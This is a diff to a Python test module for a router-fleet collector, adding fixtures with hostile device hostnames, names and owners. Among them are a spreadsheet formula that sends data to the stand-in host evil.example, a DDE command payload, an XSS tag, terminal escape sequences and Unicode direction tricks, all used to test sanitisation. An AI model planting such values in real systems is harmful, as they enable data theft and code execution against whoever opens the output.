@@ -345,6 +345,41 @@ def build_api_scenario(fleet: Fleet, base: Path) -> ApiScenario:
                        file_hashes(data_dir), codes)
 
 
+# Devices whose names are hostile: DHCP hostnames chosen by whoever joins the network, and
+# names and owners typed into the configuration (pasted from anywhere).
+FORMULA_HOST = "aa:00:00:00:00:11"
+ESCAPE_HOST = "aa:00:00:00:00:12"
+MARKUP_HOST = "aa:00:00:00:00:13"
+LONG_NAME = "aa:00:00:00:00:14"
+HOSTILE_HOSTNAMES = {
+    FORMULA_HOST: '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    ESCAPE_HOST: "\x1b[31mred\x1b[0m",
+    MARKUP_HOST: "<img src=x onerror=alert(1)>",
+    LONG_NAME: "-x",
+}
+HOSTILE_DEVICES = {
+    ESCAPE_HOST: {"name": "+cmd|' /C calc'!A0", "owner": "@SUM(1+1)"},
+    MARKUP_HOST: {"name": "-2+3\x1b]0;pwned\x07", "owner": "<b>Anna</b>"},
+    LONG_NAME: {"name": "W" * 199 + "\u03a9", "owner": "\u202eevil\u200f"},
+}
+
+
+def build_hostile_names(fleet: Fleet, base: Path) -> tuple[Path, float]:
+    """Two runs over devices with the hostile names above; (the data directory, the last run's time)."""
+    data_dir = base / "data"
+    fleet.add_router("router-1")
+    for i, (mac, hostname) in enumerate(HOSTILE_HOSTNAMES.items()):
+        fleet.join("router-1", mac, hostname=hostname, ip=f"10.0.0.{50 + i}")
+    config = write_config(base / "routers.json", {**fleet.config(settings={"timezone": "UTC"}),
+                                                  "devices": HOSTILE_DEVICES})
+    assert collect(fleet, config, data_dir).code == 0
+    for i, mac in enumerate(HOSTILE_HOSTNAMES):
+        fleet.transfer("router-1", mac, 1000 * (i + 1), 10_000 * (i + 1), wan_router="router-1")
+    fleet.advance(1800)
+    assert collect(fleet, config, data_dir).code == 0
+    return data_dir, fleet.now
+
+
 def answers_during(server: ApiServer, path: str, action, max_requests: int = 2000) -> tuple:
     """Run action() while a thread keeps GETting path; (action's result, [(status, json)]).
 
